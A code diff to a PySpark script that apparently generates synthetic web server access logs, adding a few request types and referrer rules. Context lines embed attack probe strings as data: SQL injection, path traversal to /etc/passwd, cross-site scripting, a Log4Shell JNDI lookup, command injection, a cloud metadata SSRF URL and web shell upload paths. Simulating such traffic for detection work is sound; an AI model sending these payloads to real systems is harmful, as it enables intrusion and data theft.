@@ -14,7 +14,7 @@ from pyspark.sql import DataFrame
 
 # (step, seconds after the event)
 STEPS = [(0, 0), (1, 1), (2, 3), (3, 2), (4, 40), (5, 43), (6, 5), (7, 7), (8, 20), (9, 25), (10, 50), (11, 60),
-         (12, 70), (13, 1), (14, 15), (15, 9), (16, 11), (17, 13), (18, 12)]
+         (12, 70), (13, 1), (14, 15), (15, 9), (16, 11), (17, 13), (18, 12), (19, 2000)]
 
 SELECT_LIST = """
   e*20+step AS req_id, t0+dt AS ts,
@@ -41,7 +41,7 @@ SELECT_LIST = """
    WHEN 14 THEN CASE WHEN e%5<2 THEN '/admin/' ELSE concat('/admin/orders/', CAST(v%9 AS VARCHAR(9))) END
    WHEN 15 THEN concat('/upload/shell', CAST(e%3 AS VARCHAR(9)), '.php') WHEN 16 THEN '/go/'
    WHEN 17 THEN CASE e%3 WHEN 0 THEN '/backup.zip' WHEN 1 THEN '/db.sql' ELSE '/site.tar.gz' END
-   WHEN 18 THEN CASE WHEN e%2=0 THEN '/sitemap.xml' ELSE '/robots.txt' END
+   WHEN 18 THEN CASE WHEN u%20=4 THEN '/wp-cron.php' WHEN e%2=0 THEN '/sitemap.xml' ELSE '/robots.txt' END WHEN 19 THEN '/.well-known/assetlinks.json'
    ELSE CASE WHEN v%11=0 OR u%40=7 THEN '/' ELSE concat('/catalog/item-', CAST(v%40 AS VARCHAR(9)), CASE WHEN t='signup' THEN '' ELSE '/' END) END END AS base,
   CASE step WHEN 5 THEN 'success=1' WHEN 7 THEN CASE e%6 WHEN 0 THEN 'q=1%27+union+select+1,2--' WHEN 1 THEN 'q=../../../../etc/passwd' WHEN 2 THEN 'q=<script>alert(1)</script>'
      WHEN 3 THEN 'q=$%7Bjndi:ldap://x.example/a%7D' WHEN 4 THEN 'q=1;cat+/etc/hosts' ELSE 'url=http://169.254.169.254/latest/meta-data/' END
@@ -63,7 +63,7 @@ SELECT_LIST = """
   CASE WHEN step=13 THEN 4000+v*3000 WHEN step=14 AND e%5<2 THEN 5000+(e%3)*50 WHEN step IN (6,15,17) THEN 900+e%40 WHEN step=0 AND v%13=0 THEN 200+v%50 ELSE 1000+v*7+step END AS bytes,
   CASE WHEN step=0 THEN CASE WHEN t='view' THEN 'https://www.google.com/' ELSE CASE e%10 WHEN 1 THEN 'https://yandex.ru/search/' WHEN 2 THEN 'https://vk.com/' WHEN 3 THEN 'https://chatgpt.com/'
       WHEN 4 THEN 'https://www.avito.ru/x' WHEN 5 THEN 'https://blog.example.org/post' WHEN 6 THEN 'https://site.ru/catalog/?from=menu' WHEN 7 THEN 'https://yandex.ru/maps/org' ELSE '-' END END
-   WHEN step IN (6,7,15,17,18) THEN '-' WHEN step=13 AND e%11=0 THEN concat('https://other', CAST(e%3 AS VARCHAR(9)), '.example/page')
+   WHEN step IN (6,7,15,17,18,19) OR (step=4 AND e%23=0) THEN '-' WHEN step=13 AND e%11=0 THEN concat('https://other', CAST(e%3 AS VARCHAR(9)), '.example/page')
    ELSE concat('https://site.ru/catalog/item-', CAST(v%40 AS VARCHAR(9)), '/') END AS ref
 """
 
@@ -77,7 +77,7 @@ CONDITION = """
   OR (step=8 AND t='view' AND e%3=0) OR (step=9 AND t='click' AND e%20=0) OR (step=10 AND t='purchase' AND e%2=0)
   OR (step=11 AND t='purchase' AND e%2=0) OR (step=12 AND t='purchase' AND e%4=0) OR (step=13 AND u%5<>0 AND e%2=0)
   OR (step=14 AND u%40=1) OR (step=15 AND u%75=7) OR (step=16 AND e%40=0) OR (step=17 AND u%60=11)
-  OR (step=18 AND u%10 IN (9,6,7)))
+  OR (step=18 AND (u%10 IN (9,6,7) OR u%80=4)) OR (step=19 AND u%20=16 AND e%3=0))
 """
 
 ERROR_LINE = """
